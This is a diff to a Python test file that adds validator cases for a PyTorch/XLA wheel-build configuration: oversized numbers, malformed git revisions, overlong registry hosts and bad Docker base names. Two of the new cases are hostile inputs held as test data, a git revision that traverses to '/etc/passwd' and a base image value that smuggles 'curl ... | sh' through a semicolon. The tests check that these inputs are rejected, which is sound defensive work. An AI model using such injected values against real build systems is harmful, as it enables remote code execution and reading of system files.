@@ -204,6 +204,17 @@ MATRIX_CASES = [
      "companions: [torchvision]"),
     ("companion-version-word", edit('    libtpu: "0.0.21"\n', '    libtpu: "0.0.21"\n    torchvision: latest\n'),
      "version-format", "torchvision: latest"),
+    # issue 41: numbers bounded before they are converted (0x + 4000 digits: Python's int limit, a traceback),
+    # git revisions by git's ref-name rules (a path out of the tree landed quoted in wheel-builds/*.env)
+    ("huge-hex-schema", edit("schema: 1", "schema: 0x" + "f" * 4000), "yaml-value", "schema: 0x"),
+    ("huge-decimal-in-exclude", edit('{python: "3.9", accelerator: cpu}', "{python: " + "9" * 5000 +
+                                     ", accelerator: cpu}"), "yaml-value", "{python: 999"),
+    ("git-rev-dot-dot", edit("pytorch_git_rev: v2.9.1", "pytorch_git_rev: v2.9.1/../../../../etc/passwd"),
+     "git-rev", "pytorch_git_rev: v2.9.1/.."),
+    ("git-rev-lock", edit("pytorch_git_rev: v2.9.1", "pytorch_git_rev: v2.9.1.lock"), "git-rev",
+     "pytorch_git_rev: v2.9.1.lock"),
+    ("git-rev-trailing-slash", edit("pytorch_git_rev: v2.9.1", "pytorch_git_rev: release/"), "git-rev",
+     "pytorch_git_rev: release/"),
 ]
 
 
@@ -235,6 +246,13 @@ SITE_CASES = [
     ("registry-port-too-big", "registry: 127.0.0.1:65536/x\n", "site-registry", "registry"),
     ("registry-dot-dot", "registry: a..b:5000/x\n", "site-registry", "registry"),
     ("registry-leading-hyphen", "registry: -a.example/x\n", "site-registry", "registry"),
+    # issue 41: hosts by RFC 1123 (labels of 1-63, 253 in all), bases by Docker's reference grammar
+    ("registry-label-too-long", "registry: " + "a" * 64 + ".example:5000/x\n", "site-registry", "registry"),
+    ("mirror-host-too-long", "pull_mirror: " + ".".join(["a" * 60] * 20) + "\n", "site-pull-mirror",
+     "pull_mirror"),
+    ("shell-in-base", 'bases: {"3.11": "python:3.11;curl${IFS}x|sh"}\n', "site-bases", "bases"),
+    ("base-tag-too-long", 'bases: {"3.11": "python:' + "t" * 129 + '"}\n', "site-bases", "bases"),
+    ("base-uppercase-path", 'bases: {"3.11": "Python:3.11"}\n', "site-bases", "bases"),
     # refused, not cut at 200 characters (a cut specifier matches other releases)
     ("long-specifier", "wheel_sources:\n  - name: a\n    match: {torch_xla: '" + ">=2.7," * 40 + "<3'}\n",
      "site-wheel-sources", "name: a"),
@@ -242,7 +260,7 @@ SITE_CASES = [
     ("site-list", "- registry\n", "site-schema", None),
     # YAML 1.1 integers not written in decimal: refused, not read as 3 (or as an int nobody can print)
     ("hex-level", "compression:\n  format: zstd\n  level: 0x3\n", "site-number", "level"),
-    ("huge-hex-level", "compression:\n  level: 0x" + "f" * 4000 + "\n", "site-number", "level"),
+    ("huge-hex-level", "compression:\n  level: 0x" + "f" * 4000 + "\n", "yaml-value", "level"),
     ("binary-level", "compression: {format: zstd, level: 0b11}\n", "site-number", "compression"),
     ("base-60-level", "compression:\n  level: 3:00\n", "site-number", "level"),
 ]
